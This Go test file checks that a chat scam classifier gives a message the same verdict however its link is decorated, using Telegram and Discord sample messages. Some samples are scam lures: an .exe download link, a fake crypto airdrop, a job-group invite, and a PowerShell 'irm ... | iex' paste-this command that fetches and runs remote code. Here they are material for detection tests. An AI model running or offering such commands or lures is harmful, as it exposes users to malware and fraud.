package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestVerdictHoldsAsWritten: a message's verdict does not hang on how
// its link is written in chat. Each case is a message as first written
// and the same message with its link written another way people write
// one (an ellipsis, an emoji or a full-width bracket glued to it, a full
// stop after it, Discord's spoiler bars, a masked link showing its own
// address, www. before a host); both must get the same level, and the first must be flagged
// or not as it is a scam's or not.
func TestVerdictHoldsAsWritten(t *testing.T) {
	t.Parallel()
	c := bot.NewClassifier(bot.ClassifierConfig{})
	const dl = "https://qu.ax/xKp2.exe"
	const page = "http://mattmahoney.net/dc/dce.html"
	cases := []struct {
		name     string
		scam     bool
		plain    string
		platform bot.Platform
		written  string
		links    []bot.LinkRef
	}{
		{"download, ellipsis", true, dl, bot.Telegram, dl + "…", nil},
		{"download, emoji glued", true, dl, bot.Telegram, dl + "🔥", nil},
		{"download, full-width brackets", true, "tải " + dl + " nhé", bot.Telegram, "tải（" + dl + "）nhé", nil},
		{"download, ideographic full stop", true, dl, bot.Telegram, dl + "。", nil},
		{"tech page, ellipsis", false, page, bot.Telegram, page + "…", nil},
		{"tech site, ellipsis after its host", false, "(Breaking Change) Replace pycrypto with cryptography from https://cryptography.io", bot.Telegram,
			"(Breaking Change) Replace pycrypto with cryptography from https://cryptography.io…", nil},
		{"tech page, emoji glued", false, page, bot.Telegram, page + "👍🏽", nil},
		{"scam, bare in a spoiler", true, "KuCoin airdrop is live now, claim before it ends: kucoin-bonus.live/claim", bot.Discord,
			"KuCoin airdrop is live now, claim before it ends: ||kucoin-bonus.live/claim||", nil},
		{"pasted command in a spoiler", true, "hey bro this fixes the FPS drop in valorant, just paste in powershell: irm https://fpsboost-tool.net/run | iex", bot.Discord,
			"hey bro this fixes the FPS drop in valorant, just paste in powershell: irm ||https://fpsboost-tool.net/run|| | iex", nil},
		{"pasted command, the spoiler from its first word", true, "paste this in powershell and the lag is gone: irm https://fpsboost-tool.net/run | iex", bot.Discord,
			"paste this in powershell and the lag is gone: ||irm https://fpsboost-tool.net/run|| | iex", nil},
		{"group invite, www. before the host", true, "Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://zalo.me/g/qwe123abc", bot.Telegram,
			"Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://www.zalo.me/g/qwe123abc", nil},
		{"masked link showing its own address", false, page, bot.Discord, page, []bot.LinkRef{{Text: page, URL: page}}},
		{"full stop after a path", false, "the visual6502 sim is still up http://www.visual6502.org/JSSim/index.html you can watch the transistors switch", bot.Telegram,
			"the visual6502 sim is still up http://www.visual6502.org/JSSim/index.html. you can watch the transistors switch", nil},
		{"full stop after a host's ending", false, "ethereum.org dev docs on gas https://ethereum.org/en/developers/docs/gas/", bot.Telegram,
			"ethereum.org. dev docs on gas https://ethereum.org/en/developers/docs/gas/", nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := judgeText(c, tc.platform, tc.plain).Verdict
			if (p.Level != bot.Allow) != tc.scam {
				t.Fatalf("%q as first written: %s (%.2f) %v, want flagged %v", tc.plain, p.Level, p.Score, p.Reasons, tc.scam)
			}
			m := bot.Message{ID: "x", Platform: tc.platform, Chat: "c", User: "u", Time: t0, Text: tc.written, Links: tc.links, MemberSince: t0.AddDate(-1, 0, 0)}
			if w := c.Classify(&m, bot.Hints{}).Verdict; w.Level != p.Level {
				t.Errorf("%q: %s (%.2f) %v, want %s as first written", tc.written, w.Level, w.Score, w.Reasons, p.Level)
			}
		})
	}
}
